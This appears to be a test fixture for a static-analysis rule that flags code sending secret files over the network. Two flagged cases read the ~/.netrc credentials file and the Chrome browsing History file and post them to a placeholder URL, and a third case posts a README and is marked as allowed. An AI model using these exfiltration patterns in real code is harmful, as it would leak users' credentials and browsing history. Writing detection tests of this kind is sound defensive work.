import os, requests
s = requests.Session()
n = open(os.path.expanduser('~/.netrc')).read()
# ruleid: sends_secret_file
s.post(URL, data=n)
h = open(os.path.join(local, 'Google', 'Chrome', 'User Data', 'Default', 'History'), 'rb').read()
# ruleid: sends_secret_file
s.post(URL, files={'h': h})
r = open(os.path.join(root, 'README.md')).read()
# ok: sends_secret_file
s.post(URL, data=r)
